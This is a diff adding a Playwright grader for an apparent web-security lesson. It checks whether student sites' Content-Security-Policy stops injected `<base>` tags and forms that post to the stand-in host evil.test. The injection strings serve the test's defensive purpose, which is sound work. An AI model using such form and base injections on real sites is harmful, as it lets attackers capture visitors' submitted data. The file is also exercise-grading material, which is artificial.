@@ -1,8 +1,186 @@
-"""What Chromium does with the answers of lesson 07."""
+"""What Chromium does with the answers of lesson 07: where forms go, and which base is obeyed."""
 
 from __future__ import annotations
 
-from collections.abc import Callable
+from collections.abc import Sequence
 from typing import Any
+from urllib.parse import quote
 
-SEEN: dict[str, Callable[[Any], dict[str, bool]]] = {}
+from playwright.sync_api import Error, Page
+
+from helpers import browser, web
+from helpers.exercises.form_sites import BLOG, CDN, CLUB, FONTS, PAY, SHOP
+
+EVIL = "https://evil.test/"
+
+SENDS = """selector => new Promise(ended => {
+  const form = document.querySelector(selector)
+  if (!form) return ended(false)
+  const frame = document.createElement("iframe")
+  frame.name = form.target = "sent" + document.querySelectorAll("iframe").length
+  document.body.append(frame)
+  frame.onload = () => setTimeout(ended, 50, true)  // a frame that is refused loads a moment before
+  document.addEventListener("securitypolicyviolation", violation => {
+    if (violation.disposition == "enforce") ended(violation.effectiveDirective != "form-action")
+  })
+  form.submit()
+})"""
+"""Whether a form is sent, into a frame. Whether the page may have that frame is another matter."""
+
+INJECTED_FORM = """url => {
+  const html = `<form id=injected method=post action="${url}"></form>`
+  document.body.insertAdjacentHTML("afterbegin", html)
+}"""
+INJECTED_BASE = """url => {
+  document.head.insertAdjacentHTML("afterbegin", `<base href="${url}">`)
+  return document.baseURI == url
+}"""
+
+PRESS = """street => new Promise(ended => {
+  const button = document.querySelector("form button:not([type=button]), form [type=submit]")
+  for (const field of document.querySelectorAll("[name=street]")) field.value = street
+  if (!button) return ended()
+  window.pressed = true
+  document.addEventListener("securitypolicyviolation", violation =>
+    violation.effectiveDirective == "form-action" && violation.disposition == "enforce" && ended())
+  button.click()
+})"""
+"""Ends where a policy stops the form. Where the form is sent, the page goes, and this with it."""
+
+
+def club(app: Any) -> dict[str, bool]:
+    """Exercise 07-1: both pages, with a form and a base in their words."""
+    played = _play(_club, {CLUB: app})
+    seen = {
+        "The club's own script runs on every page": all(played["script"]),
+        "The club's own form sends to the club": all(played["sent"]),
+    }
+    if all(played["injected"]):
+        seen["No page obeys an injected base"] = not any(played["base"])
+        seen["No injected form sends to another site"] = not any(played["stolen"])
+    return seen
+
+
+def _club(page: Page) -> dict[str, list[bool]]:
+    seen: dict[str, list[bool]] = {
+        key: [] for key in ("script", "sent", "base", "stolen", "injected")
+    }
+    words = f"<base href={EVIL}><form action={EVIL} method=post>"
+    for path in ("/login?note=", "/"):
+        page.goto(f"{CLUB}{path}words")
+        seen["script"].append(page.title() == "Club")
+        seen["sent"].append(_sends(page, "form"))
+        response = page.goto(f"{CLUB}{path}{quote(words)}")
+        seen["injected"].append(bool(response and words in response.text()))
+        seen["base"].append(page.evaluate("document.baseURI") == EVIL)
+        seen["stolen"].append(_sends(page, f"form[action='{EVIL}']"))
+    return seen
+
+
+def contact(app: Any) -> dict[str, bool]:
+    """Exercise 07-2: a form and a base put into every page, and the contact form filled in."""
+    played = _play(_blog, {BLOG: app, **dict.fromkeys((CDN, FONTS, "https://forms.test"), _answer)})
+    return {
+        "No page lets a form send to another site": not any(played[EVIL]),
+        "No page obeys an injected base": not any(played["base"]),
+        "GET /contact shows a form that sends to /contact": all(played["sent"]),
+        "A message stays text": not any(played["markup"]),
+    }
+
+
+def _blog(page: Page) -> dict[str, list[bool]]:
+    seen = _attacked(page, BLOG, ["/", "/post/1", "/no-such-page", "/contact"], [EVIL])
+    page.goto(f"{BLOG}/contact")
+    seen["sent"] = [page.locator("[name=email], [name=message]").count() == 2]
+    if all(seen["sent"]):
+        page.fill("[name=email]", "ann@mail.test")
+        page.fill("[name=message]", "Hello <b>Bob</b>")
+        before = _posts(f"{BLOG}/contact")
+        _press(page)
+        seen["sent"].append(_posts(f"{BLOG}/contact") > before)
+    seen["markup"] = [page.locator("b", has_text="Bob").count() > 0]
+    return seen
+
+
+def payment(app: Any) -> dict[str, bool]:
+    """Exercise 07-3: forms for two sites put into every page, and an order from both checkouts."""
+    played = _play(_shop, {SHOP: app, PAY: _answer})
+    return {
+        "No page lets a form send to just any site": not any(played[EVIL]),
+        "Only the checkout lets a form send to pay.test": not any(played[f"{PAY}/"]),
+        "An order leads to pay.test": all(played["paid"]),
+        "Every other form still sends": all(played["sent"]),
+    }
+
+
+def _shop(page: Page) -> dict[str, list[bool]]:
+    paths = ["/account", "/", "/no-such-page", "/checkout-help"]
+    seen = _attacked(page, SHOP, paths, [EVIL, f"{PAY}/"])
+    seen["sent"] = seen["own"][:1]
+    seen[EVIL] += _attacked(page, SHOP, ["/checkout"], [EVIL])[EVIL]
+    page.goto(f"{SHOP}/account")
+    _press(page)  # the same page, now as the answer to a form
+    page.evaluate(INJECTED_FORM, f"{PAY}/")
+    seen[f"{PAY}/"].append(_sends(page, "#injected"))
+    seen["paid"] = []
+    for streets in (["Main Street"], ["", "Main Street"]):  # without a street the form comes back
+        page.goto(f"{SHOP}/checkout")
+        for street in streets:
+            _press(page, street)
+        seen["paid"].append(page.url == f"{PAY}/Main%20Street")
+    seen["paid"].append(_posts(f"{SHOP}/checkout") > 0)
+    return seen
+
+
+def _attacked(
+    page: Page, site: str, paths: Sequence[str], targets: Sequence[str]
+) -> dict[str, list[bool]]:
+    """Each page's own form, then a base and a form for each target, put into it: what worked."""
+    seen: dict[str, list[bool]] = {key: [] for key in ("own", "base", *targets)}
+    for path in paths:
+        page.goto(site + path)
+        seen["own"].append(_sends(page, "form"))
+        seen["base"].append(page.evaluate(INJECTED_BASE, EVIL))
+        for target in targets:
+            page.evaluate(INJECTED_FORM, target)
+            seen[target].append(_sends(page, "#injected"))
+            page.evaluate("document.querySelector('#injected').remove()")
+    return seen
+
+
+def _sends(page: Page, form: str) -> bool:
+    return bool(page.evaluate(SENDS, form))
+
+
+def _press(page: Page, street: str = "") -> None:
+    """Press the button of the page's form, as a visitor does, and wait for what comes of it.
+
+    Playwright's locators wait for the page that a policy stopped, so none is used here.
+    """
+    try:
+        page.evaluate(PRESS, street)
+    except Error:
+        page.wait_for_function("() => !window.pressed && document.readyState == 'complete'")
+
+
+def _posts(url: str) -> int:
+    """How many forms that address got in this story."""
+    asked = web.log(url.split("/")[2])
+    return [(each.method, each.url) for each in asked].count(("POST", url))
+
+
+def _answer(_environ: Any, start_response: Any) -> list[bytes]:
+    """Another site: it answers everything with a page."""
+    start_response("200 OK", [("Content-Type", "text/html")])
+    return [b"<title>elsewhere</title>"]
+
+
+def _play(story: Any, sites: dict[str, Any]) -> dict[str, Any]:
+    for url, app in {EVIL: _answer, **sites}.items():
+        web.site(url.split("/")[2], app)
+    played = browser.play(story)
+    assert not played.problem, played.problem
+    return dict(played.facts)
+
+
+SEEN = {"07-1": club, "07-2": contact, "07-3": payment}
